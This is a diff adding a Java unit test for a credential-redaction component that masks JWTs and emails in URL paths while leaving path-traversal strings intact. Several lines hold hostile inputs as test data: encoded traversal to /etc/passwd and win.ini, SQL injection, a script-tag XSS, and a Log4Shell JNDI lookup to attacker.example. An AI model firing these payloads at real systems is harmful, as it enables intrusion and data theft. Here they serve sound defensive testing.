@@ -193,6 +193,29 @@ class RedactionTest {
     }
 
     @Test
+    void pathSegmentsThatAreCredentialsOrSensitiveValuesAreReplacedAndTraversalPathsStayIntact() {
+        MessageRedactions m = Redaction.request();
+        CredentialRedactor.RedactedRequest r = redaction.headers.request(m,
+                "/password-reset/" + JWT + "/users/alice%40example.com/orders/12345?page=2", List.of());
+        assertThat(r.path()).doesNotContain(JWT).doesNotContain("alice").startsWith("/password-reset/[redacted:")
+                .contains("/users/[masked:email:").endsWith("/orders/12345");
+        assertThat(r.target()).isEqualTo(r.path() + "?page=2");
+        assertThat(m.credentials()).singleElement().satisfies(c -> {
+            assertThat(c.location()).isEqualTo(Credential.Location.PATH);
+            assertThat(c.name()).isEqualTo("segment 1");
+            assertThat(c.fingerprint()).isEqualTo(fingerprintIn(r.path().substring("/password-reset/".length(),
+                    r.path().indexOf("]/users") + 1)));
+        });
+
+        MessageRedactions attack = Redaction.request();
+        String traversal = "/static/..%2f..%2f..%2fetc%2fpasswd/../../windows/win.ini";
+        CredentialRedactor.RedactedRequest t = redaction.headers.request(attack, traversal, List.of());
+        assertThat(t.path()).isEqualTo(traversal);
+        assertThat(t.target()).isSameAs(traversal);
+        assertThat(attack.credentials()).isEmpty();
+    }
+
+    @Test
     void attackPayloadsThatAreNotCredentialsStayIntactForDetection() {
         String[] attacks = {"' OR '1'='1' --", "1 UNION SELECT username, password FROM users", "<script>alert(1)</script>",
                 "../../../../etc/passwd", "..%2f..%2fetc%2fshadow", "${jndi:ldap://attacker.example:1389/a}",
